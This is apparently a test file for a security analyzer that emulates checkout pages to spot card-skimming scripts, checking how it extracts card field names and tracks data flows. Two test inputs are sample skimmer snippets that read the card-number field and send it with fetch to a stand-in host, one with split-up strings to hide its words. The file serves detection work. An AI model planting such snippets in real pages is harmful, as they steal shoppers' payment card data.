import assert from 'node:assert/strict';
import fc from 'fast-check';
import { cardNamesIn } from '../../../analyzer/emulator/card-names.ts';
import { flowsOf, run } from './sandbox-of-tests.ts';

describe('emulator: names of card fields', () => {
  it('finds them in quotes, selectors and lists', () => {
    assert.deepEqual(
      cardNamesIn([
        "if (e.target.id === 'cc-csc') f(['cardNumber', \"card-expiry\"]); $('#card_holder'); q('[name=\"exp_month\"]')",
      ]),
      {
        'card-cvv': 'cc-csc',
        'card-number': 'cardNumber',
        'card-expiry': 'card-expiry',
        'card-name': 'card_holder',
        'card-month': 'exp_month',
      },
    );
  });

  it('finds them in patterns', () => {
    assert.deepEqual(cardNamesIn(['/cardcvc=\\d{3}/.test(a) && /^(ccnum|x)$/.test(b)']), {
      'card-cvv': 'cardcvc',
      'card-number': 'ccnum',
    });
  });

  it("leaves out the decoy page's own names, and ordinary words", () => {
    assert.deepEqual(
      cardNamesIn(["'cc_number' 'payment[cc_cid]' 'success' 'expand' 'discard' 'cardinal'"]),
      {},
    );
  });

  it('takes any text', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ maxLength: 80 }), { maxLength: 6 }), (texts) => {
        for (const name of Object.values(cardNamesIn(texts)))
          assert.ok(texts.some((text) => text.includes(name)));
      }),
    );
  });

  it('gives the fields the names that a script waits for', async () => {
    const trace = await run(
      "document.addEventListener('change', function (e) { if (e.target.name == 'cardCvv') fetch('https://c.example/?' + document.querySelector('[autocomplete=cc-number]').value) })",
    );
    assert.deepEqual(trace.worlds, ['checkout', 'renamed']);
    assert.equal(trace.world, 'renamed');
  });

  it('gives them the names of the standard where the script hides its words', async () => {
    const flows = await flowsOf(
      "document.addEventListener('b' + 'lur', function (e) { if (e.target.id == ['cc', 'csc'].join('-')) fetch('https://c.example/?' + document.getElementById('c' + 'c-number').value) }, true)",
    );
    assert.ok(flows.some(({ field }) => field === 'card-number'));
  });
});
